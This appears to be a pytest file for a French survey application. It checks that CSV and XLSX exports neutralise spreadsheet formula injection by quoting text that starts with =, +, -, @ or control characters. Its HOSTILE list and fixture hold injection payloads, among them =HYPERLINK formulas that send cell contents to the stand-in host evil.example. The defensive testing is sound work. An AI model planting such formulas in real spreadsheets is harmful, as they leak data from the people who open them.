"""Every CSV and XLSX the project writes leaves residents' text inert in a spreadsheet."""
import csv
import io

import pandas as pd
import pytest
from sqlalchemy import select, update

from survey_app.infra.spreadsheet import safe_cell, safe_frame
from survey_app.models import Answer

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', "-1+1", "+33 6 00 00 00 00", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Plus de bancs", "", "'déjà cité", -1, -2.5, 0, None, True])
def test_other_values_are_untouched(value):
    assert safe_cell(value) is value or safe_cell(value) == value


def test_frames_keep_their_numbers_and_quote_their_text():
    frame = pd.DataFrame({"texte": ["=1+1", "bien"], "n": [-3, 4], "part": [-0.5, 0.25], "=col": ["a", "b"]})
    safe = safe_frame(frame)
    assert safe["texte"].tolist() == ["'=1+1", "bien"]
    assert safe["n"].tolist() == [-3, 4] and safe["part"].tolist() == [-0.5, 0.25]
    assert list(safe.columns) == ["texte", "n", "part", "'=col"]
    assert frame["texte"].tolist() == ["=1+1", "bien"]  # the caller's frame is left alone


def test_result_downloads_quote_hostile_labels():
    from survey_app.findings import downloads

    sheet = downloads.Sheet("Thèmes", ["=titre", "part"], [[text, -0.5] for text in HOSTILE], note="@note")
    rows = list(csv.reader(io.StringIO(downloads.to_csv(sheet).decode("utf-8-sig"), newline=""), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'=titre" in cells and "'@note" in cells and "'-1+1" in cells
    assert not [cell for cell in cells if is_live_formula(cell.replace(",", "."))]
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(downloads.to_xlsx(sheet)))
    cells = [cell.value for row in book.active.iter_rows() for cell in row]
    assert not [value for value in cells if isinstance(value, str) and is_live_formula(value)]
    assert -0.5 in cells
    assert book.active["A1"].data_type == "s"


def _open(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_theme_outputs_quote_hostile_answers(runner, demo_with_hostile_answers, tmp_path):
    result = runner.invoke(args=["analysis", "themes", "--campaign", "demo", "--question", "problemes_quartier", "--k", "3", "--out", str(tmp_path)])
    assert result.exit_code == 0, result.output
    verbatims = pd.read_csv(tmp_path / "verbatims.csv", dtype=str, keep_default_na=False)
    texts = verbatims["text"].tolist()
    assert texts and all(text.startswith("'=") or text.startswith("'-") for text in texts), texts[:5]
    for name in ("themes.csv", "themes_par_quartier.csv", "verbatims.csv"):
        live = [cell for cell in _open(tmp_path / name) if is_live_formula(cell)]
        assert not live, (name, live[:3])


def is_live_formula(text):
    """Tell whether a spreadsheet would run ``text`` (a negative number is just a number)."""
    if not text.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


@pytest.fixture()
def demo_with_hostile_answers(runner, db_session):
    result = runner.invoke(args=["demo", "setup", "--responses", "400", "--seed", "11"])
    assert result.exit_code == 0, result.output
    rows = db_session.execute(select(Answer.id, Answer.value_text).where(Answer.question_id == "problemes_quartier")).all()
    assert len(rows) > 50
    for number, (answer_id, text) in enumerate(rows):
        prefix = '=HYPERLINK("http://evil.example";"ok") ' if number % 2 else "-1+1 "
        db_session.execute(update(Answer).where(Answer.id == answer_id).values(value_text=prefix + (text or "")))
    db_session.commit()
